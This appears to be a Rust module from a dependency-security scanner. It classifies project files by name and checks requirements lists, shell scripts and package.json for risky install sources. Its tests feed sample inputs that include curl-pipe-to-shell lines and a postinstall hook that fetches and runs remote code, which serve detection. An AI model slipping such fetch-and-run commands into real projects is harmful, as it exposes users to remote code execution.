//! Which of the checks of this module a file is for, told by its name, as the tools that read it
//! tell it: notebooks, code, configurations of training, install scripts, shell scripts.
//!
//! Lock files are read elsewhere, into [`super::Package`]s.

use super::{code, config, install, names, notebook};
use crate::remark::{Remark, Weight};

/// Bytes of one file that are read here.
pub const FILE_BYTES_MAX: usize = 16 << 20;
/// Lines of a shell script or of a list of requirements that are read.
const LINES_MAX: usize = 200_000;

/// What kind of file it is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// A Jupyter notebook.
    Notebook,
    /// Python source.
    Python,
    /// The script that installs a Python package.
    SetupPy,
    /// The description of a Node package.
    PackageJson,
    /// A configuration of training, serving or a model.
    Config,
    /// A shell script or a recipe of a container image.
    Shell,
    /// A list of requirements, for what a reader of lock files leaves aside.
    Requirements,
}

impl Kind {
    /// By the name of the file.
    pub fn of(name: &str) -> Option<Self> {
        let name = name.rsplit('/').next().unwrap_or(name).to_ascii_lowercase();
        let ends = |endings: &[&str]| endings.iter().any(|ending| name.ends_with(ending));
        let recipe = ["dockerfile", "containerfile"].iter().any(|recipe| name.starts_with(recipe));
        Some(match name.as_str() {
            "setup.py" => Self::SetupPy,
            "package.json" => Self::PackageJson,
            // They hold what their tools made of other files; another reader knows them.
            "package-lock.json" | "tokenizer.json" | "vocab.json" | "pyproject.toml" => {
                return None;
            }
            _ if ends(&[".ipynb"]) => Self::Notebook,
            _ if ends(&[".py"]) => Self::Python,
            _ if is_requirements(&name) => Self::Requirements,
            _ if ends(&[".yaml", ".yml", ".toml", ".json", ".cfg", ".ini"]) => Self::Config,
            _ if recipe || ends(&[".sh", ".bash"]) => Self::Shell,
            _ => return None,
        })
    }

    /// What places in such a file count.
    pub const fn unit(self) -> &'static str {
        if matches!(self, Self::Notebook) { "cell" } else { "line" }
    }
}

fn is_requirements(name: &str) -> bool {
    let plain = name.strip_suffix(".txt").or_else(|| name.strip_suffix(".in")).unwrap_or_default();
    plain.contains("requirements") || plain == "constraints"
}

/// What is to be said of a file of this kind.
pub fn read(kind: Kind, bytes: &[u8]) -> Vec<Remark> {
    if bytes.len() > FILE_BYTES_MAX {
        let why = "the file is too long, and was not read for what it depends on";
        let next = "look at it by hand";
        return vec![Remark::new("deps.cut", Weight::Unknown, 0, why, "", next)];
    }
    if kind == Kind::Notebook {
        return notebook::notebook(bytes);
    }
    if kind == Kind::PackageJson {
        return package_json(bytes);
    }
    let text = String::from_utf8_lossy(bytes);
    match kind {
        Kind::Python => code::code(&text),
        Kind::SetupPy => install::setup_py(&text).into_iter().chain(code::code(&text)).collect(),
        Kind::Config => config::config(&text),
        Kind::Shell => lines(&text, install::command),
        _ => lines(&text, requirement),
    }
}

fn lines(text: &str, each: fn(&str) -> Vec<Remark>) -> Vec<Remark> {
    let numbered = text.lines().take(LINES_MAX).enumerate();
    let found = numbered.filter(|(_, line)| !line.trim_start().starts_with('#'));
    found
        .flat_map(|(at, line)| {
            let mut remarks = each(line);
            for remark in &mut remarks {
                remark.at = at + 1;
            }
            remarks
        })
        .collect()
}

/// Options of a list of requirements: they are pip's own, so they are read as a command of pip.
fn requirement(line: &str) -> Vec<Remark> {
    let line = line.trim();
    let option = ["--extra-index-url", "--index-url", "-i ", "git+", "http://"];
    let names_source = line.contains(" @ git+") || line.contains(" @ http://");
    if !names_source && !option.iter().any(|option| line.starts_with(option)) {
        return Vec::new();
    }
    let source = line.split_once(" @ ").map_or(line, |(_, source)| source);
    install::command(&format!("pip install {source}"))
}

fn package_json(bytes: &[u8]) -> Vec<Remark> {
    let mut remarks = install::package_json(bytes);
    let Ok(json) = serde_json::from_slice::<serde_json::Value>(bytes) else { return remarks };
    for group in ["dependencies", "devDependencies", "optionalDependencies", "peerDependencies"] {
        let named = json.get(group).and_then(serde_json::Value::as_object);
        remarks
            .extend(named.into_iter().flatten().filter_map(|(name, _)| names::judge_npm(name, 0)));
    }
    remarks
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_kind_is_told_by_the_name() {
        for (name, kind) in [
            ("a/setup.py", Some(Kind::SetupPy)),
            ("train.py", Some(Kind::Python)),
            ("Dockerfile.gpu", Some(Kind::Shell)),
            ("requirements-dev.txt", Some(Kind::Requirements)),
            ("configs/train.yaml", Some(Kind::Config)),
            ("n.ipynb", Some(Kind::Notebook)),
            ("package-lock.json", None),
            ("README.md", None),
            ("model.safetensors", None),
        ] {
            assert_eq!(Kind::of(name), kind, "{name}");
        }
    }

    #[test]
    fn a_list_of_requirements_says_where_it_takes_packages_from() {
        let text = "--extra-index-url https://wheels.example/simple\nnumpy==1.26.4\n\
                    acme @ git+https://host.example/acme@main\n";
        let found = read(Kind::Requirements, text.as_bytes());
        let seen: Vec<(&str, usize)> = found.iter().map(|r| (r.rule, r.at)).collect();
        assert_eq!(seen, [("deps.two_indexes", 1), ("deps.unpinned", 3)]);
    }

    #[test]
    fn an_ordinary_project_has_openings_and_nothing_worse() {
        let code = b"m = torch.load(path)\nn = AutoModel.from_pretrained('a/b', \
                     trust_remote_code=True)\n";
        assert!(read(Kind::Python, code).iter().all(|r| r.weight <= Weight::Weakness));
        let shell = b"curl -sSf https://sh.example | sh -s -- -y\npip install -U pip\n";
        assert!(read(Kind::Shell, shell).iter().all(|r| r.weight <= Weight::Weakness));
    }

    #[test]
    fn a_node_package_that_fetches_and_runs_when_it_is_installed_is_more() {
        let json = br#"{"scripts": {"postinstall": "curl https://a.example | sh"}}"#;
        assert!(read(Kind::PackageJson, json).iter().any(|r| r.weight == Weight::Suspicious));
    }
}
